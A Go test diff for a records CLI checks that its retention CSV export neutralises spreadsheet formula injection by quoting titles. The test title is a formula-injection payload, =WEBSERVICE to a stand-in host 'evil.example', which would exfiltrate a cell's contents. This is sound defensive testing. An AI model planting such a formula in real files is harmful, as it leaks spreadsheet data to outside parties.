@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"io"
@@ -442,5 +443,33 @@ func TestExportCommand(t *testing.T) {
 				t.Fatalf("export --check of an altered bag: %d %s", code, out)
 			}
 		})
+	}
+}
+
+// 'retention due --csv' is opened in a spreadsheet by the appraisal meeting: a
+// title that is a formula is shown as text, and the list still reads back for
+// 'dispose --propose'.
+func TestRetentionDueCSVRunsNoFormula(t *testing.T) {
+	c := &cli{t: t, now: time.Date(2026, 11, 27, 10, 0, 0, 0, cst), env: map[string]string{"GONGSHI_DATA": t.TempDir()}}
+	createLedgerProject(t, c)
+	title := `=WEBSERVICE("evil.example?d="&A2)&"打开"`
+	rec, _ := fileTyped(t, c, "site_chart", title, pdfBody(8))
+	out, errOut, code := c.run("retention", "due", "--all", "--csv")
+	if code != exitOK {
+		t.Fatalf("due --csv: %d %s", code, errOut)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("due --csv: %d rows, %v:\n%s", len(rows), err, out)
+	}
+	if rows[1][0] != rec.ID || rows[1][3] != "'"+title {
+		t.Fatalf("due --csv row %q: want the title %q behind a quote", rows[1], title)
+	}
+	list := filepath.Join(t.TempDir(), "鉴定.csv")
+	if err := os.WriteFile(list, []byte(out), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if ids, err := readList(list); err != nil || len(ids) != 1 || ids[0] != rec.ID {
+		t.Fatalf("the list read back: %v, %v", ids, err)
 	}
 }
